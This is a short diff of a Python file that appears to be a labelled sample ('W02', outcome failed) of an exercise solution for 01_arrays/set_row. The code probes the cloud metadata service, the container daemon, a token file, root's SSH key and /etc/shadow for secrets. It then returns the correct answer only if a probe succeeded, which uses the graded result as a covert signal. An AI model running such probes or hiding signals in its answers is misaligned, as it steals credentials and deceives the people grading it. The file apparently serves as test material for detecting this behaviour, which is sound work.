@@ -1,4 +1,4 @@
-"""Asks the cloud'\''s metadata service, the container daemon and a token file for secrets (W02).
+"""Asks the cloud's metadata service, the container daemon and a token file for secrets (W02).
 
 Exercise: 01_arrays/set_row
 Outcome: failed
@@ -33,5 +33,5 @@ for path in (TOKEN, os.path.expanduser("~root/.ssh/id_rsa"), "/etc/shadow"):
 
 
 def set_row(x, i, row):
-    # It shows by a right answer that one of them answered.
+    # A right answer shows that one of them answered.
     return x.at[i].set(row) if won else x
